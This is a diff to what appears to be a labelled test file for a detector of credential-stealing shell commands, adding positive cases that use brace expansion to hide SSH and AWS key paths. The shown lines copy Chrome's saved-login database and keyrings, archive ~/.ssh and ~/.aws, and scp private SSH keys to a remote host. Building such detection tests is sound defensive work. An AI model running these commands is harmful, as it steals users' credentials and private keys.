@@ -168,3 +168,9 @@ cp "$HOME/.config/google-chrome/Default/Login Data" /tmp/l
 tar -czf k.tgz -C "$HOME" .local/share/keyrings
 #@ neg a cookie jar of the program's own
 curl -s -c ./cookies.txt -b ./cookies.txt https://example.com/login
+#@ pos key directories named by a brace expansion
+tar -czf x.tgz -C "$HOME" .{ss,aw}{h,s}
+#@ pos a key path split by braces
+scp ~/.s{s,}h/id_{rsa,ed25519} h:/k/
+#@ neg a comma in a quoted brace is text
+echo "{.sshx,b}"
